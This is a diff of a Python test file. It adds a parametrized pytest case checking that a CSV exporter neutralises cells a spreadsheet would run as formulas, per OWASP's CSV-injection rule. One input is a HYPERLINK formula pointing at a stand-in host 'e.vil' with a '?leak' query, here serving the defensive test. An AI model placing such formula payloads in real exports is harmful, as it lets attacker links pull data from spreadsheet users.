@@ -451,3 +451,23 @@ async def test_the_started_record_is_awaited_before_each_call_unless_the_health_
     degraded = HealthView(Loaded(now_s=0.0, entries={}), clock=fake, degraded=True)
     await router.route(body, plan=plan, view=degraded, policy=config.policy, time_left_s=30, info=info)
     assert awaited == []  # Redis is known unreachable: the calls do not wait for it
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://e.vil/?leak","click")', '\'=HYPERLINK("http://e.vil/?leak","click")'),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("gpt-5", "gpt-5"),
+        (-1, "-1"),
+    ],
+    ids=["formula", "plus", "minus", "at", "tab", "cr", "plain", "negative-number"],
+)
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_neutralised(value: object, cell: str) -> None:
+    """OWASP's CSV-injection rule on every exported cell: a leading `= + - @`, tab or CR is quoted with `'`."""
+    text = csv_lines([_row(0) | {"requested_model": value}], header=True).decode()
+    assert next(csv.DictReader(io.StringIO(text, newline="")))["requested_model"] == cell
